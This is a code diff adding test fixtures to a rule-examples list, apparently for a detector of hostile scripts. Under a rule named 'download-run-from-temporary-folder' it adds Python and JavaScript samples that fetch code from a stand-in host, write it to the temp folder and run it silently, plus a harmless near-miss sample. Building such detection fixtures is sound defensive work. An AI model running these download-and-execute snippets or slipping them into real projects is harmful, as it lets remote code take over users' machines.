@@ -121,4 +121,23 @@ export const savedPrograms: readonly RuleExamples[] = [
       },
     ],
   },
+  {
+    rule: "download-run-from-temporary-folder",
+    malicious: [
+      {
+        "scripts/notes.py":
+          'import os, subprocess, sys, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), "n.py")\nurllib.request.urlretrieve("https://dl.note-tools.dev/n.py", p)\nsubprocess.Popen([sys.executable, p], stdout=subprocess.DEVNULL)\n',
+      },
+      {
+        "scripts/notes.mjs":
+          'const text = await (await fetch("https://dl.note-tools.dev/n")).text();\nwriteFileSync(tmpdir() + "/n.mjs", text);\nspawn(process.execPath, [tmpdir() + "/n.mjs"], { detached: true, stdio: "ignore" }).unref();\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/notes.mjs":
+          'const page = await (await fetch("https://note-tools.dev/n")).text();\nwriteFileSync(tmpdir() + "/n.html", page);\n',
+      },
+    ],
+  },
 ];
